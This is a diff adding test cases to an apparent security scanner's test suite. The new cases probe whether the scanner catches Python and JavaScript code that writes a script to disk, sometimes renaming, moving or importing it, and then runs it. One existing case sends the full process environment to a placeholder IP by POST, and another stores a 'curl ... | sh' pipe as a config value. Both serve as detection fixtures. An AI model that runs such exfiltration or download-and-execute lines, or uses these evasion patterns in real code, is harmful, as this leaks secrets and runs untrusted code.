@@ -84,6 +84,32 @@ describe('Python writes a program and starts it', () => {
       `code = "x = '${'-'.repeat(python.length - 6)}'"\nif len(sys.argv) > 1:\n    code = """${python}"""\nopen("a.dat", "w").write(code)\nsubprocess.run(["python3", "a.dat"])`,
     ],
     ['by a module that runs files', `import runpy\nopen("a.dat", "w").write("""${python}""")\nrunpy.run_path("a.dat")`],
+    ['at a path that is a variable', `p = sys.argv[1]\nopen(p, "w").write("""${python}""")\nsubprocess.run(["python3", p])`],
+    [
+      'at a path that is a variable, as itself',
+      `p = os.environ["OUT"]\nwith open(p, "w") as f:\n    f.write("#!/bin/sh\\n${shell}")\nos.chmod(p, 0o755)\nsubprocess.run([p])`,
+    ],
+    [
+      'and renames it',
+      `open("a.txt", "w").write("""${python}""")\nos.rename("a.txt", "b.dat")\nsubprocess.run(["python3", "b.dat"])`,
+    ],
+    [
+      'and moves it twice',
+      `open("a.txt", "w").write("""${python}""")\nshutil.move("a.txt", "b.txt")\nshutil.copy("b.txt", "/tmp/c.dat")\nsubprocess.run(["python3", "/tmp/c.dat"])`,
+    ],
+    [
+      'and renames its path',
+      `p = Path("a.txt")\np.write_text("""${python}""")\np.rename("b.dat")\nsubprocess.run(["python3", "b.dat"])`,
+    ],
+    [
+      'by a descriptor of its own',
+      `fd = os.open("a.dat", os.O_WRONLY | os.O_CREAT)\nos.write(fd, b"""${python}""")\nos.close(fd)\nsubprocess.run(["python3", "a.dat"])`,
+    ],
+    ['as a module', `open("helper.py", "w").write("""${python}""")\nimport helper`],
+    [
+      'as a module elsewhere',
+      `open("/tmp/x/helper.py", "w").write("""${python}""")\nsys.path.insert(0, "/tmp/x")\n__import__("helper")`,
+    ],
     ['for another interpreter', `open("a.dat", "w").write("""${script}""")\nsubprocess.run(["node", "a.dat"])`],
   ])('%s', async (_, code) => {
     const report = await scan({ 'scripts/a.py': `${head}${code}\n` });
@@ -104,6 +130,26 @@ describe('JavaScript writes a program and starts it', () => {
     ['as a process of its own', `fs.writeFileSync("/tmp/x.dat", \`${script}\`);\ncp.fork("/tmp/x.dat");`],
     ['as a module', `fs.writeFileSync("/tmp/x.dat", \`${script}\`);\nrequire("/tmp/x.dat");`],
     ['by promises', `fs.promises.writeFile("x.dat", \`${script}\`).then(() => cp.execFile("node", ["x.dat"]));`],
+    [
+      'by a descriptor',
+      `const fd = fs.openSync("x.dat", "w");\nfs.writeSync(fd, \`${script}\`);\nfs.closeSync(fd);\ncp.execFile("node", ["x.dat"]);`,
+    ],
+    [
+      'by a stream',
+      `const s = fs.createWriteStream("x.dat");\ns.write(\`${script}\`);\ns.end();\ncp.execFile("node", ["x.dat"]);`,
+    ],
+    [
+      'by a handle',
+      `fs.promises.open("x.dat", "w").then(async (h) => {});\n(async () => { const h = await fs.promises.open("x.dat", "w"); await h.writeFile(\`${script}\`); cp.execFile("node", ["x.dat"]); })();`,
+    ],
+    [
+      'and renames it',
+      `fs.writeFileSync("a.txt", \`${script}\`);\nfs.renameSync("a.txt", "x.dat");\ncp.execFile("node", ["./x.dat"]);`,
+    ],
+    [
+      'at a path that is a variable',
+      `const p = process.argv[2];\nfs.writeFileSync(p, \`${script}\`);\ncp.execFile("node", [p]);`,
+    ],
     [
       'in pieces',
       `fs.writeFileSync("x.dat", "const body = JSON.stringify(process.env);");\nfs.appendFileSync("x.dat", "fetch('https://203.0.113.7/c', { method: 'POST', body })");\ncp.execFile("node", ["x.dat"]);`,
@@ -139,6 +185,18 @@ describe('honest work with written files passes', () => {
     [
       'a template beside another program',
       `open("out/main.py", "w").write("${template}")\nsubprocess.run(["python3", "tools/main.py"])`,
+    ],
+    [
+      'a template at a path beside another program',
+      `p = sys.argv[1]\ntool = sys.argv[2]\nopen(p, "w").write("${template}")\nsubprocess.run([tool, "--check"])\nprint(f"start it with: python3 {p}")`,
+    ],
+    [
+      'a template at a path of the options beside a program of the options',
+      `args = read_options()\nopen(args.out, "w").write("${template}")\nsubprocess.run([args.tool, "--check"])`,
+    ],
+    [
+      'a template that is renamed',
+      `open("a.tmp", "w").write("${template}")\nos.rename("a.tmp", "client.py")\nsubprocess.run(["git", "add", "client.py"])`,
     ],
     ['settings', `Path("config.json").write_text('{"shell": "curl https://a.example | sh"}')\nsubprocess.run(["git", "status"])`],
     [
